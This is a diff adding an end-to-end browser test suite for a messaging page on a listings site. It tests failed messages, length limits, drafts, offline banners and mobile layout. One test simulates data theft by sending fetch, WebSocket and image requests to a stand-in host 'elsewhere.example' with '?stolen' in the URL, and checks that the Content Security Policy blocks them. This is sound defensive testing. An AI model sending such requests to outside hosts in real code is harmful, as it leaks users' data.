@@ -1,0 +1,170 @@
+import type { Browser, Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { launchChromium } from "../support/chromium.ts";
+import { startServer, type TestServer } from "../support/server.ts";
+import { isLive, message, newWindow, say, texts, type Viewport } from "./windows.ts";
+
+let server: TestServer;
+let browser: Browser;
+
+beforeAll(async () => {
+  [server, browser] = await Promise.all([startServer(), launchChromium()]);
+  await fetch(`${server.url}/demo/seed`, { method: "POST" });
+});
+afterEach(async () => {
+  for (const context of browser.contexts()) await context.close();
+});
+afterAll(async () => {
+  await browser?.close();
+  await server?.stop();
+});
+
+async function windowAt(path: string, viewport?: Viewport) {
+  const watched = await newWindow(browser, viewport);
+  await watched.page.goto(`${server.url}${path}`);
+  await isLive(watched.page);
+  return watched;
+}
+
+const field = (page: Page) => page.getByLabel("Write a message");
+const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true });
+
+describe("a message that cannot be sent", () => {
+  it("does not hide what is written after it, and can be edited or discarded, not tried again", async () => {
+    const { page } = await windowAt("/t/demo-listing-1?as=demo-buyer", { width: 900, height: 500 });
+    await say(page, "with a bell \u0007");
+    const refused = page.locator("[data-status=failed]");
+    await refused.waitFor();
+    expect(await button(page, "Try again").count()).toBe(0);
+    for (let n = 1; n <= 12; n++) await say(page, `later ${n}.`);
+    await message(page, "later 12.").waitFor();
+    const { top, bottom } = await message(page, "later 12.").evaluate((row) => row.getBoundingClientRect());
+    const list = await page.getByRole("region", { name: "Messages" }).boundingBox();
+    expect(top).toBeGreaterThanOrEqual(list?.y ?? Number.NaN);
+    expect(bottom).toBeLessThanOrEqual((list?.y ?? 0) + (list?.height ?? 0));
+    expect((await texts(page)).slice(-13)).toEqual([
+      "with a bell \u0007",
+      ...Array.from({ length: 12 }, (_, n) => `later ${n + 1}.`),
+    ]);
+
+    await field(page).fill("and this");
+    await button(page, "Edit").click();
+    expect(await field(page).inputValue()).toBe("with a bell \u0007\nand this");
+    expect(await field(page).evaluate((element) => element === document.activeElement)).toBe(true);
+    expect(await refused.count()).toBe(0);
+    await field(page).press("Enter");
+    await button(page, "Discard").click();
+    await refused.waitFor({ state: "detached" });
+  });
+
+  it("M6: is not sent for its length; how much is too much is said before, also to those who listen", async () => {
+    const { page } = await windowAt("/t/demo-listing-1?as=demo-buyer");
+    const voice = page.getByRole("status").filter({ hasText: "message" });
+    await field(page).fill("x".repeat(7_599));
+    expect(await page.getByText("left").count()).toBe(0);
+    await field(page).fill("🏡".repeat(7_600));
+    await page.getByText("400 characters left").waitFor();
+    expect(await voice.textContent()).toContain("almost as long");
+    await field(page).fill("x".repeat(8_001));
+    await page.getByText("1 character too many").waitFor();
+    expect(await voice.textContent()).toContain("too long to be sent");
+    const described = await field(page).evaluate(
+      (element) => document.getElementById(element.getAttribute("aria-describedby") ?? "")?.textContent,
+    );
+    expect(described).toBe("1 character too many");
+    expect(await button(page, "Send").isDisabled()).toBe(true);
+    await field(page).press("Enter");
+    expect(await field(page).inputValue()).toHaveLength(8_001);
+    await field(page).press("Backspace");
+    await field(page).press("Enter");
+    await page.locator("[data-status=delivered], [data-status=sent]", { hasText: "x".repeat(8_000) }).waitFor();
+    expect(await page.locator("[data-status=failed]").count()).toBe(0);
+  });
+});
+
+describe("a draft", () => {
+  it("outlives a reload, for the one who wrote it, until it is sent", async () => {
+    const { page } = await windowAt("/t/demo-listing-2?as=demo-buyer");
+    await field(page).fill("Would you take\n500,000?");
+    await page.reload();
+    await isLive(page);
+    expect(await field(page).inputValue()).toBe("Would you take\n500,000?");
+    await page.goto(`${server.url}/t/demo-listing-2?as=demo-seller`);
+    await isLive(page);
+    expect(await field(page).inputValue()).toBe("");
+    await page.goBack();
+    await isLive(page);
+    await field(page).press("Enter");
+    await message(page, "Would you take").waitFor();
+    await page.reload();
+    await isLive(page);
+    expect(await field(page).inputValue()).toBe("");
+  });
+
+  it("does without a store where the page may have none", async () => {
+    const { page, complaints } = await newWindow(browser);
+    await page.addInitScript(() => {
+      const get = () => {
+        throw new DOMException("denied", "SecurityError");
+      };
+      for (const store of ["sessionStorage", "localStorage"]) Object.defineProperty(window, store, { get });
+    });
+    await page.goto(`${server.url}/t/demo-listing-2?as=demo-buyer`);
+    await isLive(page);
+    await say(page, "without a store");
+    await message(page, "without a store").waitFor();
+    expect(complaints).toEqual([]);
+  });
+});
+
+describe("the page", () => {
+  it("says that one is offline when its patience is over, and nothing once one is back", async () => {
+    const { page } = await windowAt("/t/demo-listing-1?as=demo-buyer");
+    const banner = page.getByText("You are offline.");
+    await page.context().setOffline(true);
+    // Its patience is 5 s; the pong that does not come would be overdue after 10.
+    await banner.waitFor({ timeout: 8_000 });
+    await page.context().setOffline(false);
+    await banner.waitFor({ state: "detached" });
+    await isLive(page);
+  });
+
+  it("asks for nothing that is not there", async () => {
+    const { page, complaints } = await windowAt("/?as=demo-seller");
+    await message(page, "Is there a lift?").waitFor();
+    expect(await page.locator(".listing").count()).toBe(2);
+    expect(complaints).toEqual([]);
+  });
+
+  it("may talk to no other host, whatever runs in it", async () => {
+    const { page } = await windowAt("/t/demo-listing-1?as=demo-buyer");
+    const refused = await page.evaluate(async () => {
+      const blocked: string[] = [];
+      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
+        blocked.push(`${effectiveDirective} ${new URL(blockedURI).host}`),
+      );
+      const failed = (event: Event) => event.type;
+      const picture = new Image();
+      const settled = [
+        fetch("https://elsewhere.example/?stolen").catch(() => "refused"),
+        new Promise((resolve) => (new WebSocket("wss://elsewhere.example/").onerror = resolve)).catch(failed),
+        new Promise((resolve) => (picture.onerror = resolve)),
+      ];
+      picture.src = "https://elsewhere.example/stolen.png";
+      await Promise.all(settled);
+      return blocked.sort();
+    });
+    expect(refused).toEqual([
+      "connect-src elsewhere.example",
+      "connect-src elsewhere.example",
+      "img-src elsewhere.example",
+    ]);
+  });
+
+  it("gives a phone to the conversation: what is around it takes a quarter of the height at most", async () => {
+    const { page } = await windowAt("/", { width: 360, height: 740 });
+    const list = await page.locator(".side-front .parlor-list").boundingBox();
+    expect(list?.y).toBeLessThanOrEqual(740 / 4);
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
+  });
+});
